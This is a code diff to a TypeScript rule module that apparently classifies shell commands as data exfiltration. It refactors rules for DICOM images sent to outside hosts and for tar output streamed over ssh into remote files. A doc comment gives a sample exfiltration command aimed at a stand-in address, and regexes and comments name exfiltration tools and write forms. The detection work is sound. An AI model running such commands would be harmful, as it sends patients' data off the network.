@@ -4,7 +4,7 @@
 // ATT&CK T1048, T1048.003, T1041, T1567.002, T1071.004; curl(1) (-T, -F @, --data-binary @),
 // wget(1) (--post-file), nc(1), GTFOBins' "File upload" function.
 import type { Action, PathClass } from "../model.js";
-import { classifyPath, DOTENV, hostOf, internalHost, isExternalHost, productionNamed } from "../paths.js";
+import { classifyPath, DOTENV, hostOf, isExternalHost, outsideHost, productionNamed } from "../paths.js";
 import type { Invocation } from "../shell-command.js";
 import { looksLikeSql, readsRows } from "../sql.js";
 import { credentialPrinted } from "./credential-access.js";
@@ -785,10 +785,8 @@ const imagesSent: CommandRule = {
       else if (!/^[-+]/.test(a)) ops.push(a);
     }
     const [host, port, ...files] = ops;
-    // (Outside: a name with a domain that is not the internal network's, or a public address; a bare name (pacs01) resolves inside.)
-    if (host === undefined) return undefined;
-    const outside = isExternalHost(host) && !internalHost(host) && /\./.test(host) && !/^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(host);
-    if (port === undefined || !/^\d{1,5}$/.test(port) || files.length === 0 || !outside) return undefined;
+    // (Outside: outsideHost, a bare name (pacs01) or a private address resolves inside.)
+    if (host === undefined || port === undefined || !/^\d{1,5}$/.test(port) || files.length === 0 || !outsideHost(host)) return undefined;
     return { action: { capability: "exfiltrate", target: { name: host, external: true, personal: true }, reversibility: "irreversible", scope: "tree" }, reason: `sends ${describe(files, "DICOM files")} to ${shown(host)}, a DICOM node outside: every image carries its patient's name, id and birth date, and what was sent cannot be called back (T1048)` };
   },
   examples: {
@@ -802,7 +800,7 @@ const SSH_VALUED = /^-[bcDEeFIiJLlmOopQRSWw]$/;
 
 /**
  * Packed files streamed over ssh into a file on a host outside (tar czf - dir | ssh -p 2222 u@203.0.113.77
- * 'cat > cohort.tgz'): the files leave, as scp would send them (T1048). Inside the network, a host
+ * 'cat > cohort.tgz'): the files leave, and are judged as scp's copy of them is (T1048). Inside the network, a host
  * with no domain or an internal one, it is the same copy between one's machines that scp is.
  */
 const sshStreamed: CommandRule = {
@@ -818,11 +816,12 @@ const sshStreamed: CommandRule = {
     while (i < inv.args.length && inv.args[i]!.startsWith("-")) i += SSH_VALUED.test(inv.args[i]!) ? 2 : 1;
     const host = inv.args[i]?.replace(/^[^@]*@/, "");
     const remote = inv.args.slice(i + 1).join(" ");
-    if (host === undefined || !/\bcat\s*>|\bdd\b[^|]*\bof=|\btee\b|\btar\s+-?[a-z]*x/.test(remote)) return undefined;
-    const outside = isExternalHost(host) && !internalHost(host) && /\./.test(host) && !/^(?:10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(host);
-    if (!outside) return undefined;
+    // (Into a file there: cat >, dd of=, tee, cp /dev/stdin, base64 -d >. A tar unpacked into a directory is a deploy, as scp's copy is.)
+    if (host === undefined || !/\bcat\s*>|\bdd\b[^|]*\bof=|\btee\b|\bcp\s+\/dev\/stdin\b|\bbase64\s+-d\b[^|]*>/.test(remote) || !outsideHost(host)) return undefined;
     const sent = inputsOf(writer);
-    const action = { ...exfil(host, host, sent), capability: "exfiltrate" as const, scope: "tree" as const };
+    // (Judged as scp's copy of the same files is: what they are decides the tier.)
+    const action = exfil(host, host, sent);
+    if (!matters(action)) return undefined;
     return { action, reason: `streams ${describe(sent, `the output of ${writer.name}`)} over ssh into a file on ${shown(host)}, a host outside: ${kind(action, "T1048")}` };
   },
   examples: {
